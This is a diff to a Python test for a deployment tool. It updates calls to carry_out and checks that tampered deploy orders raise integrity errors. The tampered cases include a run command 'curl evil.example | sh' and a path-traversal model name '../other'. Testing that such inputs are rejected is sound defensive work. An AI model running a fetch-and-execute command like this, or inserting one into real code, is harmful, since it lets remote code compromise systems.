@@ -20,7 +20,9 @@ from ciml.cli.wiring import Place, open_place, project_at
 from ciml.core.deployment import DeployOrder, Receipt
 from ciml.core.entries import Deployment
 from ciml.core.errors import IntegrityError, RaceError
+from ciml.core.event import Event, Kind
 from ciml.core.handover import SETTLED
+from ciml.core.ids import ModelName
 from tests.awsserver import aws_server
 from tests.cli.calls import Calls, environment, process
 from tests.cli.ledgers import entries, state
@@ -153,11 +155,14 @@ def test_a_release_over_three_jobs(
         handover.take_in(place.store)
         [order] = handover.all("deployments", DeployOrder, of=SETTLED)
         assert order == decision.order
-        receipt = target.carry_out(order, check=True)
+        tagged = Event(kind=Kind.TAG, name="push", tag="v2", head=order.commit)
+        receipt = target.carry_out(order, handed_on=tagged)
         handover.write("receipts", order.name, receipt)
         elsewhere = msgspec.structs.replace(order.target, run="curl evil.example | sh")
         with pytest.raises(IntegrityError, match="its target"):
-            target.carry_out(msgspec.structs.replace(order, target=elsewhere), check=True)
+            target.carry_out(msgspec.structs.replace(order, target=elsewhere), handed_on=tagged)
+        with pytest.raises(IntegrityError, match="for a model that ciml"):
+            target.carry_out(msgspec.structs.replace(order, model=ModelName("../other")), handed_on=tagged)
     assert not (second.path / ".git/ciml/registry").exists()
 
     with deploying(third) as (_, recording, _):
@@ -167,7 +172,7 @@ def test_a_release_over_three_jobs(
         with pytest.raises(IntegrityError, match="is not its order's"):
             recording.record(order, msgspec.structs.replace(told, environment="staging"))
     with deploying(second) as (_, target, _), pytest.raises(RaceError, match="another version came to serve"):
-        target.carry_out(order, check=True)
+        target.carry_out(order, handed_on=tagged)
     assert (tmp_path / "target/production").read_text() == "0.8\n"
     assert state(clone.repo, remote="origin").deployments["production"].version == 2
 
